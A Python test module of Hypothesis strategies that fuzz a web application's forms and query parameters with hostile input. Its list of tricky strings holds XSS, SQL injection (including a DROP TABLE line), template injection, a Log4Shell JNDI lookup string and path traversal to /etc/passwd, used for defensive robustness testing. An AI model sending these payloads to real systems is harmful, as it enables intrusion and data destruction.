"""Hostile input for the fuzz tests."""

from hypothesis import strategies as st

# Anything HTTP can carry as UTF-8: every code point but the lone surrogates (which cannot be encoded).
SENDABLE = st.characters(exclude_categories=["Cs"])
TEN_KB = 10_240
DROP = object()  # a field left out of the submitted form altogether

# Text people, robots and attackers send: markup, SQL, template and path tricks, control and invisible
# characters, right-to-left overrides, combining marks, astral-plane characters and words other code treats
# specially. Many of them are valid input somewhere; the point is that none of them may break a page.
TRICKY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\t\r\n",
    "\x0b\x0c\x1b[31m",
    "\u200b\u200c\u200d",
    "\u202egnp.exe",
    "\ufeff",
    "\ufffd",
    "Z\u0335\u0321\u0348a\u0334\u0327\u0353",
    "e\u0301",
    "ß",
    "İ",
    "ﬁ",
    "脑磁图",
    "مرحبا",
    "🧠",
    "👩🏽‍⚕️",
    "𝕸𝕸𝕴𝕹",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "' OR '1'='1",
    "1; DROP TABLE members_member; --",
    "%' OR 1=1 --",
    "' || pg_sleep(5) --",
    "$$; SELECT 1; $$",
    "\\",
    "%",
    "_",
    "'",
    '"',
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://example.org/a}",
    "../../../../etc/passwd",
    "%00",
    "%2e%2e%2f",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    "NaN",
    "-Infinity",
    "-0",
    "1e309",
    "9" * 40,
    'MEG OR -"brain waves" (',
    "& | ! : * <->",
]

hostile_text = st.one_of(
    st.text(SENDABLE, max_size=200),
    st.sampled_from(TRICKY),
    st.lists(st.sampled_from(TRICKY), min_size=2, max_size=6).map("".join),
    # About 10 kB: longer than any field allows, so every length limit is reached.
    st.text(SENDABLE, min_size=1, max_size=30).map(lambda text: (text * (TEN_KB // len(text) + 1))[:TEN_KB]),
)

numbers = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.integers(min_value=-3, max_value=3).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.sampled_from(["0", "-1", "00", "1.5", "1e3", "0x1f", "+1", "1_000", " 7", "٣", "¹", "Ⅻ", "inf", "9" * 30]),
)


def value_or_list(values: st.SearchStrategy) -> st.SearchStrategy:
    """A value, or the same kind of value repeated where the form expects one (`?page=1&page=2`)."""
    return st.one_of(values, st.lists(values, min_size=2, max_size=4))


def hostile_or(*good: st.SearchStrategy) -> st.SearchStrategy:
    """Half the time a good value (so forms get past their first check), else hostile text, a number or a list."""
    hostile = st.one_of(hostile_text, numbers, st.lists(st.one_of(*good, hostile_text), min_size=2, max_size=3))
    # Not st.one_of(good, hostile): it would flatten both into one list of branches, most of them hostile.
    return st.booleans().flatmap(lambda is_hostile: hostile if is_hostile else st.one_of(*good))


def some_of(fields: dict[str, st.SearchStrategy], *, most: int = 3) -> st.SearchStrategy:
    """Changes to at most `most` of the fields: the rest of a valid form stays valid, so each change is tried alone."""
    if not fields:
        return st.just({})
    chosen = st.lists(st.sampled_from(sorted(fields)), max_size=most, unique=True)
    return chosen.flatmap(lambda names: st.fixed_dictionaries({name: fields[name] for name in names}))


def query_parameters(known: dict[str, st.SearchStrategy], *, most: int = 4) -> st.SearchStrategy:
    """Up to `most` of the known parameters (each maybe repeated), plus parameters nobody asked for."""
    unknown = st.dictionaries(
        st.one_of(st.sampled_from(["utm_source", "format", "callback", "debug", "__proto__"]), hostile_text),
        value_or_list(hostile_text),
        max_size=2,
    )
    return st.tuples(some_of(known, most=most), unknown).map(lambda pair: {**pair[1], **pair[0]})


def sendable(data: dict) -> dict:
    """Form data the test client can encode: DROP-ped fields removed, everything else as strings."""
    return {
        name: [str(item) for item in value] if isinstance(value, list) else str(value)
        for name, value in data.items()
        if value is not DROP
    }
